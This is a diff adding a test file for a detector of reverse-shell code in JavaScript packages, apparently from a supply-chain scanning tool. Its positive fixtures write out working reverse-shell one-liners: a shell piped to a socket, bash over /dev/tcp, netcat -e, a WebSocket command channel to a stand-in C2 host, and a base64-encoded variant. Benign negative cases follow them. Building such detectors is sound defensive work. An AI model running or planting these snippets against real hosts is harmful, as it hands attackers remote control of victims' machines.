@@ -1,0 +1,56 @@
+import { examine } from '../../../test/examine.ts';
+import { opensReverseShell } from './opens-reverse-shell.ts';
+
+examine(opensReverseShell, {
+  speaks: [
+    {
+      when: 'a shell and a socket are piped into each other',
+      files: {
+        'index.js': `const sh = require('child_process').spawn('/bin/sh', []); const c = new (require('net').Socket)(); c.connect(4444, '192.0.2.1', () => { c.pipe(sh.stdin); sh.stdout.pipe(c); })`,
+      },
+      weight: 'proof',
+    },
+    {
+      when: 'what a socket says is executed',
+      files: {
+        'index.js': `const c = require('net').connect(4444, '192.0.2.1'); c.on('data', d => require('child_process').exec(d.toString(), (e, out) => c.write(out)))`,
+      },
+      weight: 'proof',
+    },
+    {
+      when: 'a web socket gives commands',
+      files: {
+        'index.js': `const W = require('ws'); const w = new W('wss://c2.invalid'); w.on('message', m => require('child_process').exec(m.toString()))`,
+      },
+      weight: 'proof',
+    },
+    {
+      when: 'bash does it alone',
+      files: { 'index.js': `require('child_process').exec('bash -i >& /dev/tcp/192.0.2.1/4444 0>&1')` },
+      weight: 'proof',
+      says: ['when it is imported'],
+    },
+    {
+      when: 'netcat does it, in arguments',
+      files: { 'index.js': `require('child_process').spawn('nc', ['-e', '/bin/sh', '192.0.2.1', '4444'])` },
+      weight: 'proof',
+    },
+    {
+      when: 'the command is encoded and only called',
+      files: {
+        'index.js': `exports.x = () => require('child_process').exec(atob('${Buffer.from('sh -i >& /dev/tcp/192.0.2.1/4444 0>&1').toString('base64')}'))`,
+      },
+      weight: 'strong',
+    },
+  ],
+  silent: [
+    { when: 'a shell runs a known command', files: { 'index.js': `require('child_process').spawn('sh', ['-c', 'ls -i > list'])` } },
+    {
+      when: 'a client of a database has a socket',
+      files: {
+        'index.js': `const c = require('net').connect(5432, 'db.invalid'); c.on('data', d => d.length); require('child_process').exec('git status')`,
+      },
+    },
+    { when: 'text only talks about it', files: { 'index.js': `module.exports = 'bash -i >& /dev/tcp/192.0.2.1/4444'` } },
+  ],
+});
